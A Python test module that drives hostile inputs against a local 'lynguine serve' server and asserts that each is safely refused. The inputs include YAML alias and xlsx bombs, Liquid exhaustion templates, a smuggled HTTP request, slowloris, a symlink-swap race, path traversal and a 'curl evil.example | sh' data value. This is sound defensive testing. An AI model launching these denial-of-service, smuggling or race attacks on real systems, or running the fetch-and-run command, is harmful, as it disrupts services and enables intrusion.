"""The attacks of issue 12's "Why", one function each, run against a live
`lynguine serve` by tests/wire/test_security.py (which checks each one's
outcome, the canaries, and /api/health during and after it) and by
bench/hostile_health.py (which times /api/health during and after each).

An attack is ATTACKS[name] = (server, fn): `server` names the server it
needs ("plain": --auth none; "token": the local token; "keyed": API keys),
fn(ctx) runs it and raises AssertionError unless the server answered as a
safe server must. `ctx.during()` blocks until the health poller has seen
/api/health answered while the attack holds (slowloris, idle sockets).

No pytest and no conftest here: the benchmark imports this module too."""
import io
import json
import os
import resource
import socket
import subprocess
import threading
import time
import zipfile

CANARY = "CANARY-7f3a9c-do-not-leak"
ALICE = "alice-write-key-0123456789abcdef"
BOB = "bob-read-key-0123456789abcdef"
SECRET_VAR = "LYN_HOSTILE_SECRET"  # in the server's environment, holding CANARY


# --- what the servers need -------------------------------------------------------------


def prepare(root, outside):
    """Files inside the root that the attacks use, and the symlink swap's
    twin directory outside it (made before the canaries are snapshot)."""
    def w(rel, data):
        p = os.path.join(root, rel)
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "wb" if isinstance(data, bytes) else "w") as f:
            f.write(data)
    for n in ("a" * 200 + "!.md", "aaa.md"):
        w(os.path.join("hostile_re", n), "---\ntitle: t\n---\n")
    w("hostile_self.yml", "inherit: {directory: ., filename: hostile_self.yml}\n")
    bomb = 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    for c in "bcdefghi":
        p = chr(ord(c) - 1)
        bomb += "%s: &%s [%s]\n" % (c, c, ",".join(["*" + p] * 9))
    w("hostile_bomb.yaml", bomb)  # 516 bytes: 387 million strings if expanded
    w("hostile_fm.md", "---\n&a ,\n---\n")  # the 13-byte front matter
    w("hostile_bomb.xlsx", xlsx_bomb())
    for d, text in ((os.path.join(root, "hostile_race"), "inside"),
                    (os.path.join(outside, "hostile_race_out"), CANARY)):
        os.makedirs(d, exist_ok=True)
        with open(os.path.join(d, "data.csv"), "w") as f:
            f.write("name\n%s\n" % text)
    os.symlink(os.path.join(outside, "hostile_race_out"), os.path.join(root, "hostile_race_swap"))


def xlsx_bomb(rows=1000, cols=3000):
    """A small xlsx whose one sheet declares rows x cols numeric cells (3
    million: over the cell limit), deflated to a few hundred KB."""
    def col(i):
        s = ""
        i += 1
        while i:
            i, r = divmod(i - 1, 26)
            s = chr(65 + r) + s
        return s
    names = [col(i) for i in range(cols)]
    sheet = io.StringIO()
    sheet.write('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.'
                'openxmlformats.org/spreadsheetml/2006/main"><sheetData>')
    for r in range(1, rows + 1):
        sheet.write('<row r="%d">' % r)
        sheet.write("".join('<c r="%s%d"><v>1</v></c>' % (n, r) for n in names))
        sheet.write("</row>")
    sheet.write("</sheetData></worksheet>")
    ns = "http://schemas.openxmlformats.org"
    files = {
        "[Content_Types].xml":
            '<?xml version="1.0"?><Types xmlns="%s/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override '
            'PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.spreadsheetml.worksheet+xml"/></Types>' % ns,
        "_rels/.rels":
            '<?xml version="1.0"?><Relationships xmlns="%s/package/2006/relationships">'
            '<Relationship Id="rId1" Type="%s/officeDocument/2006/relationships/officeDocument"'
            ' Target="xl/workbook.xml"/></Relationships>' % (ns, ns),
        "xl/workbook.xml":
            '<?xml version="1.0"?><workbook xmlns="%s/spreadsheetml/2006/main" xmlns:r="%s/'
            'officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" '
            'r:id="rId1"/></sheets></workbook>' % (ns, ns),
        "xl/_rels/workbook.xml.rels":
            '<?xml version="1.0"?><Relationships xmlns="%s/package/2006/relationships">'
            '<Relationship Id="rId1" Type="%s/officeDocument/2006/relationships/worksheet" '
            'Target="worksheets/sheet1.xml"/></Relationships>' % (ns, ns),
        "xl/worksheets/sheet1.xml": sheet.getvalue(),
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, text in files.items():
            z.writestr(name, text)
    return out.getvalue()


def keys_file(home):
    path = os.path.join(home, "hostile_keys.yml")
    with open(path, "w") as f:
        f.write("- {name: alice, key: %s, rights: write}\n"
                "- {name: bob, key: %s, rights: read}\n" % (ALICE, BOB))
    return path


def server_args(kind, home):
    """The `serve` options of each kind of server."""
    if kind == "keyed":
        return ["--api-keys", keys_file(home)]
    if kind == "token":
        return ["--auth-token", "auto"]
    return ["--auth", "none"]


def raise_fd_limit(n=4096):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = n if hard == resource.RLIM_INFINITY else min(n, hard)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))


# --- talking to the server ---------------------------------------------------------------


def raw(port, data, timeout=10):
    """Sends raw bytes, returns (status, headers dict, body bytes); status 0
    if the server closed the connection without an answer."""
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(data)
        buf = b""
        while True:
            try:
                chunk = s.recv(65536)
            except (ConnectionResetError, socket.timeout):
                break
            if not chunk:
                break
            buf += chunk
            head, sep, body = buf.partition(b"\r\n\r\n")
            if sep:
                lines = head.decode("latin-1").split("\r\n")
                headers = {k.strip().lower(): v.strip()
                           for k, _, v in (l.partition(":") for l in lines[1:])}
                n = int(headers.get("content-length", "-1"))
                if n >= 0 and len(body) >= n:
                    return int(lines[0].split()[1]), headers, body[:n]
    if not buf:
        return 0, {}, b""
    head, _, body = buf.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    return int(lines[0].split()[1]), {}, body


def exchange(port, data, timeout=120):
    """raw()'s status and body."""
    status, _, body = raw(port, data, timeout)
    return status, body


def request(port, method, path, body=None, headers=None):
    data = json.dumps(body).encode() if body is not None else b""
    h = {"Host": "127.0.0.1:%d" % port, "Connection": "close",
         "Content-Type": "application/json", "Content-Length": str(len(data))}
    h.update(headers or {})
    head = "%s %s HTTP/1.1\r\n%s\r\n" % (method, path,
                                         "".join("%s: %s\r\n" % kv for kv in h.items()))
    status, raw = exchange(port, head.encode() + data)
    try:
        return status, json.loads(raw)
    except ValueError:
        return status, {"raw": raw.decode("latin-1")}


class Ctx:
    """What an attack gets: the server (port, root, home, binary, env) and
    during(), which waits until /api/health has answered while it holds."""

    def __init__(self, port, root, home, outside, binary, env, poller=None):
        self.port, self.root, self.home, self.outside = port, root, home, outside
        self.binary, self.env, self.poller = binary, env, poller
        self.hold = 3  # probes answered while a holding attack holds
        self.answers = []  # every answer body, checked for the canary

    def post(self, path, body, key=None, method="POST"):
        headers = {"Authorization": "Bearer " + key} if key else {}
        status, reply = request(self.port, method, path, body, headers)
        self.answers.append(json.dumps(reply))
        return status, reply

    def during(self, timeout=600):
        """Holds until /api/health was answered `hold` times while the
        attack is in place (its connections opened)."""
        if self.poller:
            self.poller.phase = "during"
            self.poller.wait_for(self.hold, timeout)

    def ramp(self):
        """The attack is opening its connections: probes sent now are tagged
        "ramp". A probe connecting amid a burst of connections from its own
        address may be closed unanswered to make room (the quietest
        connection goes, and it has not been read yet): evicted, not
        refused."""
        if self.poller:
            self.poller.phase = "ramp"


def render(ctx, template):
    return ctx.post("/api/compute", {"operation": "render_liquid",
                                     "params": {"template": template, "context": {}}})


def named_refusal(status, reply, limit, want=422):
    assert status == want, (status, reply)
    assert limit in reply.get("error_message", ""), reply


# --- the attacks ---------------------------------------------------------------------------


def nested_parentheses(ctx):
    named_refusal(*render(ctx, "{{ " + "(" * 50000 + "1..2" + ")" * 50000 + " }}"),
                  "liquid_nesting_depth")


def and_chain(ctx):
    status, reply = render(ctx, "{% if " + "true and " * 50000 + "true %}y{% endif %}")
    assert (status, reply.get("result")) == (200, "y"), reply


def nested_loops(ctx):
    named_refusal(*render(ctx, "{% for a in (1..1000) %}{% for b in (1..1000) %}"
                               "{% for c in (1..1000) %}{% endfor %}{% endfor %}{% endfor %}"),
                  "liquid_loop_iterations")


def string_doubling(ctx):
    named_refusal(*render(ctx, "{% assign s = 'ab' %}{% for i in (1..64) %}"
                               "{% assign s = s | append: s %}{% endfor %}{{ s | size }}"),
                  "liquid_output_bytes")


def integer_squaring(ctx):
    named_refusal(*render(ctx, "{% assign x = 3 %}{% for i in (1..64) %}"
                               "{% assign x = x | times: x %}{% endfor %}{{ x | modulo: 7 }}"),
                  "liquid_integer_digits")


def catastrophic_regexp(ctx):
    source = {"type": "markdown_directory",
              "source": [{"directory": "hostile_re", "regexp": r"(a+)+\.md$"}]}
    status, reply = ctx.post("/api/read_data", {"data_source": source})
    assert status == 200, reply
    assert [r["sourceFilename"] for r in reply["data"]["records"]] == ["aaa.md"], reply


def inherit_self_cycle(ctx):
    status, reply = ctx.post("/api/read_data", {"interface_file": "hostile_self.yml"})
    assert status == 400 and "inherits itself" in reply["error_message"], reply


def yaml_alias_bomb(ctx):
    status, reply = ctx.post("/api/read_data",
                             {"data_source": {"type": "yaml", "filename": "hostile_bomb.yaml"}})
    assert 400 <= status < 500 and "max_alias_nodes" in reply["error_message"], (status, reply)


def front_matter_13_bytes(ctx):
    # yaml-cpp went to gigabytes on it; libyaml fails at once. lynguine's
    # markdown reader treats a front matter it cannot parse as empty.
    status, reply = ctx.post("/api/read_data",
                             {"data_source": {"type": "markdown", "filename": "hostile_fm.md"}})
    assert status in (200, 400), (status, reply)


def xlsx_bomb_read(ctx):
    status, reply = ctx.post("/api/read_data",
                             {"data_source": {"type": "excel", "filename": "hostile_bomb.xlsx"}})
    # Refused by a named bound (cells, shared strings, or the XML's memory).
    assert 400 <= status < 500 and "limit" in reply["error_message"], (status, reply)


def smuggled_request(ctx):
    # Transfer-Encoding other than chunked: its body, a second request
    # (a write), must not be parsed as one.
    inner = json.dumps({"data": {"records": [{"a": 1}]},
                        "output": {"type": "csv", "filename": "smuggled.csv"}}).encode()
    second = (b"POST /api/write_data HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: "
              b"application/json\r\nContent-Length: %d\r\n\r\n" % len(inner)) + inner
    first = (b"POST /api/ping HTTP/1.1\r\nHost: 127.0.0.1:%d\r\nTransfer-Encoding: gzip\r\n"
             b"\r\n" % ctx.port)
    status, body = exchange(ctx.port, first + second)
    assert status == 400, (status, body)
    assert not os.path.exists(os.path.join(ctx.root, "smuggled.csv"))


def hold_connections(ctx, n, first_bytes):
    """Opens n connections that each send `first_bytes` and then nothing;
    while they are open, /api/health and an ordinary read are answered (not
    refused 429/503)."""
    socks = []
    try:
        ctx.ramp()
        for _ in range(n):
            s = socket.create_connection(("127.0.0.1", ctx.port), timeout=30)
            if first_bytes:
                s.sendall(first_bytes)
            socks.append(s)
        ctx.during()
        status, reply = ctx.post("/api/read_data",
                                 {"data_source": {"type": "csv", "filename": "data/people.csv"}})
        assert status == 200, reply
    finally:
        for s in socks:
            s.close()


def slowloris(ctx):
    hold_connections(ctx, 65, b"G")


def idle_sockets(ctx):
    raise_fd_limit()
    hold_connections(ctx, 1030, b"")


def symlink_swap(ctx, seconds=20):
    """A directory inside the root swapped atomically with a symlink to its
    twin outside (renameat2 RENAME_EXCHANGE) while requests read through it."""
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    inside = os.path.join(ctx.root, "hostile_race")  # made by prepare()
    swap = os.path.join(ctx.root, "hostile_race_swap")
    done = threading.Event()
    swaps = [0]

    def flip():
        a, b = inside.encode(), swap.encode()
        while not done.is_set():
            if libc.renameat2(-100, a, -100, b, 2) == 0:
                swaps[0] += 1

    t = threading.Thread(target=flip)
    t.start()
    seen = set()
    try:
        end = time.monotonic() + seconds
        while time.monotonic() < end and not (seen >= {200, 403} and len(ctx.answers) > 40):
            status, _ = ctx.post("/api/read_data", {"data_source": {
                "type": "csv", "filename": "hostile_race/data.csv"}})
            assert status in (200, 400, 403, 404), status
            seen.add(status)
    finally:
        done.set()
        t.join()
        # Leave the twin as it was made (the canary check compares files).
        if os.path.islink(inside):
            libc.renameat2(-100, inside.encode(), -100, swap.encode(), 2)
    assert swaps[0] > 0 and 200 in seen, (swaps[0], seen)


def forged_server_record(ctx):
    """A server.json naming an unrelated process: `serve --stop` must not
    signal it (its pid never proved the recorded nonce)."""
    victim = subprocess.Popen(["sleep", "600"])
    try:
        state = os.path.join(ctx.home, "forged-state")
        os.makedirs(state, mode=0o700, exist_ok=True)
        with open("/proc/%d/stat" % victim.pid) as f:
            start = int(f.read().rsplit(")", 1)[1].split()[19])
        with open(os.path.join(state, "server-%d.json" % victim.pid), "w") as f:
            json.dump({"pid": victim.pid, "process_start": start, "nonce": "ab" * 16,
                       "token": "STOLEN", "auth": "token", "version": "0.0.1", "root": "/",
                       "started_at": 0, "host": "127.0.0.1", "port": ctx.port}, f)
        env = dict(ctx.env, LYNGUINE_STATE_DIR=state)
        r = subprocess.run([ctx.binary, "serve", "--stop"], env=env, cwd=ctx.root,
                           capture_output=True, text=True, timeout=60)
        assert r.returncode != 0 and "not stopping pid %d" % victim.pid in r.stderr, \
            r.stdout + r.stderr
        assert victim.poll() is None, "the unrelated process was killed"
    finally:
        victim.kill()
        victim.wait()


def session_hijack(ctx):
    """A read key neither lists, reads nor moves a writer's session."""
    status, reply = ctx.post("/api/sessions", {"interface_file": "_lynguine.yml"}, ALICE)
    assert status == 200, reply
    sid = reply["session"]["session_id"]
    try:
        status, listed = ctx.post("/api/sessions", None, BOB, method="GET")
        assert status == 200 and sid not in json.dumps(listed), listed
        for op, body in (("set_index", {"index": 0}), ("set_value", {"value": "x"}),
                         ("get_shape", {})):
            status, reply = ctx.post("/api/sessions/%s/%s" % (sid, op), body, BOB)
            assert status in (403, 404), (op, status, reply)
        status, reply = ctx.post("/api/sessions/" + sid, None, BOB, method="DELETE")
        assert status in (403, 404), reply
    finally:
        assert ctx.post("/api/sessions/" + sid, None, ALICE, method="DELETE")[0] == 200


def var_in_request_path(ctx):
    """$VAR in a request path is not expanded, nor the environment echoed."""
    for name in ("$%s.csv" % SECRET_VAR, "${%s}.csv" % SECRET_VAR, "~/canary.csv"):
        status, reply = ctx.post("/api/read_data",
                                 {"data_source": {"type": "csv", "filename": name}})
        assert status in (400, 403, 404), (name, status, reply)


def tokenless_tcp_client(ctx):
    """Another local user reaching the TCP port: no token, no read and no
    write (the CSV writer's chosen first line never lands in a file)."""
    status, reply = ctx.post("/api/read_data",
                             {"data_source": {"type": "csv", "filename": "../canary.csv"}})
    assert status == 401, reply
    status, reply = ctx.post("/api/write_data", {
        "data": {"records": [{"curl evil.example | sh": 1}]},
        "output": {"type": "csv", "filename": "planted.csv"}})
    assert status == 401, reply
    assert not os.path.exists(os.path.join(ctx.root, "planted.csv"))


# name -> (server kind, attack)
ATTACKS = {
    "50,000 nested parentheses": ("plain", nested_parentheses),
    "50,000-term and chain": ("plain", and_chain),
    "nested Liquid loops": ("plain", nested_loops),
    "Liquid string doubling": ("plain", string_doubling),
    "big-integer squaring": ("plain", integer_squaring),
    "catastrophic regexp": ("plain", catastrophic_regexp),
    "inherit self-cycle": ("plain", inherit_self_cycle),
    "YAML alias bomb": ("plain", yaml_alias_bomb),
    "13-byte front matter": ("plain", front_matter_13_bytes),
    "xlsx bomb": ("plain", xlsx_bomb_read),
    "non-chunked Transfer-Encoding": ("plain", smuggled_request),
    "slowloris": ("plain", slowloris),
    "1,030 idle sockets": ("plain", idle_sockets),
    "symlink swap": ("plain", symlink_swap),
    "forged server.json": ("plain", forged_server_record),
    "session hijack by read key": ("keyed", session_hijack),
    "$VAR in request paths": ("plain", var_in_request_path),
    "token-less TCP client": ("token", tokenless_tcp_client),
}


class HealthPoller:
    """GET /api/health on fresh connections, again and again, from its own
    thread: every status and latency (ms), each tagged with the phase it was
    sent in ("before", "during", "after")."""

    def __init__(self, port, pause=0.005):
        self.port, self.pause = port, pause
        self.phase = "before"
        self.samples = []  # (phase, status, ms)
        self._cv = threading.Condition()
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def start(self):
        self._thread.start()
        return self

    def _run(self):
        req = b"GET /api/health HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n"
        while not self._stop.is_set():
            phase = self.phase
            t0 = time.perf_counter()
            try:
                status, _ = exchange(self.port, req, timeout=60)
            except OSError:
                status = 0
            ms = (time.perf_counter() - t0) * 1000
            with self._cv:
                self.samples.append((phase, status, ms))
                self._cv.notify_all()
            time.sleep(self.pause)

    def count(self, phase):
        with self._cv:
            return sum(1 for p, _, _ in self.samples if p == phase)

    def wait_for(self, n, timeout, phase="during"):
        end = time.monotonic() + timeout
        with self._cv:
            while sum(1 for p, _, _ in self.samples if p == phase) < n:
                left = end - time.monotonic()
                if left <= 0:
                    raise AssertionError("no /api/health answer %s the attack" % phase)
                self._cv.wait(left)

    def stop(self):
        self._stop.set()
        self._thread.join()
